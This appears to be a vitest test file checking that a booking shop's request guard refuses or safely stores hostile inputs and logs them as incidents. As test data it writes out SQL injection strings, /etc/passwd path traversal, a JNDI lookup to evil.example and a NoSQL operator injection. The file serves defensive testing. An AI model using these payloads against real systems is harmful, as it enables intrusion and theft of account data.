import { afterAll, beforeAll, expect, test } from 'vitest'
import { waitUntil } from '../../src/platform/process/wait-until.ts'
import { openGuardedShop } from '../browser/guarded-shop.ts'
import { slotsAhead } from '../setup/next-slot.ts'
import type { TestShop } from '../setup/test-shop.ts'

let shop: TestShop
beforeAll(async () => {
  shop = await openGuardedShop()
})
afterAll(() => shop.close())

const nextSlot = slotsAhead()
const from = (source: string) => ({ 'x-forwarded-for': source })

interface FoundIncident {
  rule_id: string
  severity: string
  facts: Record<string, unknown>
}

const incidentsOf = (source: string): Promise<FoundIncident[]> =>
  shop.owner.sql<
    FoundIncident[]
  >`select rule_id, severity, facts from incident where facts->>'source' = ${source}
    order by id`

/** What was seen of a source, each with what was answered. */
const seenOf = (
  source: string,
): Promise<{ family: string; place: string; field: string; refused: boolean }[]> =>
  shop.owner.sql`select body->>'status_detail' as family, body->'unmapped'->>'place' as place,
      body->'unmapped'->>'field' as field, (body->'unmapped'->>'refused')::boolean as refused
    from event where body->>'activity_name' = 'Hostile Payload' and body->'src_endpoint'->>'ip' = ${source}
    order by writer_number`

const injections = [
  "x' OR '1'='1",
  "'; DROP TABLE booking;--",
  "' UNION SELECT email, password_hash, null FROM account--",
  "1' AND (SELECT COUNT(*) FROM information_schema.tables) > 0--",
  "'||pg_sleep(5)--",
]

// Playbook S2.1, D5
test('five strings of SQL injection are one P2, nothing leaks, and whoever is called O’Brien-Select books', async () => {
  const honest = from('203.0.113.60')
  const booked = await shop.call(
    'POST',
    '/bookings',
    {
      service_id: shop.serviceId,
      barber_id: shop.barberId,
      start_at: nextSlot(),
      client: { name: "O'Brien-Select", email: "o'brien@example.com", phone: '+49 30 5550155' },
      note: 'drop the fade; select #2',
    },
    honest,
  )
  expect(booked).toMatchObject({ status: 201, body: { note: 'drop the fade; select #2' } })

  const rowsBefore = await shop.owner.sql`select count(*) from booking`
  for (const text of injections) {
    const asked = await shop.call(
      'GET',
      `/services?search=${encodeURIComponent(text)}`,
      undefined,
      from('203.0.113.61'),
    )
    const listed = await shop.call(
      'GET',
      `/bookings?cursor=${encodeURIComponent(text)}`,
      undefined,
      from('203.0.113.61'),
    )
    expect(asked.status === 200 || asked.status === 400).toBe(true)
    expect(listed.status).toBe(401)
    expect(JSON.stringify([asked.body, listed.body])).not.toContain('@example.com')
  }
  expect(await shop.owner.sql`select count(*) from booking`).toEqual(rowsBefore)

  expect(await waitUntil(async () => (await incidentsOf('203.0.113.61')).length > 0, 10_000)).toBe(true)
  expect(await incidentsOf('203.0.113.61')).toMatchObject([
    { rule_id: 'probing', severity: 'P2', facts: { count: 3, detail: 'sql_injection' } },
  ])
  // The guard reads in the order of what happened: it has seen the honest booking, and said nothing.
  expect(await incidentsOf('203.0.113.60')).toEqual([])
  expect(await seenOf('203.0.113.60')).toEqual([])
})

test('what stands in a note is data: it is kept as it is, and told of', async () => {
  const start = nextSlot()
  const { status, body } = await shop.call(
    'POST',
    '/bookings',
    {
      service_id: shop.serviceId,
      start_at: start,
      client: { name: 'Ana', email: 'ana@example.com' },
      note: "Robert'); DROP TABLE booking;--",
    },
    from('203.0.113.62'),
  )
  expect({ status, note: body.note }).toEqual({ status: 201, note: "Robert'); DROP TABLE booking;--" })
  expect(await waitUntil(async () => (await seenOf('203.0.113.62')).length === 1, 5_000)).toBe(true)
  expect(await seenOf('203.0.113.62')).toEqual([
    { family: 'sql_injection', place: 'body', field: 'note', refused: false },
  ])
})

test.each([
  ['the path', '/bookings/..%252f..%252f..%252fetc%252fpasswd', {}, 'path_traversal', 'path'],
  ['a path that leads nowhere', '/nowhere/%27%20or%201%3D1--', {}, 'sql_injection', 'path'],
  ['a header', '/shop', { 'user-agent': '${jndi:ldap://evil.example/a}' }, 'template_injection', 'header'],
])('in %s it is refused', async (_, path, headers, family, place) => {
  const source = `203.0.113.${70 + path.length}`
  const { status, body } = await shop.call('GET', path, undefined, { ...from(source), ...headers })
  expect({ status, code: body.code }).toEqual({ status: 400, code: 'request_refused' })
  expect(JSON.stringify(body)).not.toContain('evil')
  expect(await waitUntil(async () => (await seenOf(source)).length > 0, 5_000)).toBe(true)
  expect(await seenOf(source)).toMatchObject([{ family, place, refused: true }])
})

test('an address that no route can be looked up for is seen as well', async () => {
  const { hostname, port } = new URL(shop.url)
  const { connect } = await import('node:net')
  const answer = await new Promise<string>((resolve, reject) => {
    const socket = connect(Number(port), hostname, () =>
      socket.end(
        'GET /..%c0%af..%c0%af..%c0%afetc/passwd HTTP/1.1\r\nhost: x\r\nx-forwarded-for: 203.0.113.140\r\nconnection: close\r\n\r\n',
      ),
    )
    let text = ''
    socket.on('data', (part: Buffer) => (text += part.toString()))
    socket.on('end', () => resolve(text))
    socket.on('error', reject)
  })
  expect(answer).toContain('400 Bad Request')
  expect(answer).toContain('request_refused')
  expect(await waitUntil(async () => (await seenOf('203.0.113.140')).length === 1, 5_000)).toBe(true)
})

test('it is told who sent it, and nothing of a password', async () => {
  const { accountId, headers } = await shop.person('client')
  const source = '203.0.113.141'
  await shop.call('POST', '/auth/login', { email: 'a@example.com', password: "' or 1=1--" }, from(source))
  await shop.call('GET', '/bookings?status[$ne]=x', undefined, { ...headers, ...from(source) })
  expect(await waitUntil(async () => (await seenOf(source)).length > 0, 5_000)).toBe(true)
  expect(await seenOf(source)).toMatchObject([{ family: 'nosql_injection', place: 'query', field: 'other' }])
  const [{ actor }] = (await shop.owner.sql`select body->'actor'->'user'->>'uid' as actor from event
    where body->>'activity_name' = 'Hostile Payload' and body->'src_endpoint'->>'ip' = ${source}`) as [
    { actor: string },
  ]
  expect(actor).toBe(accountId)
})
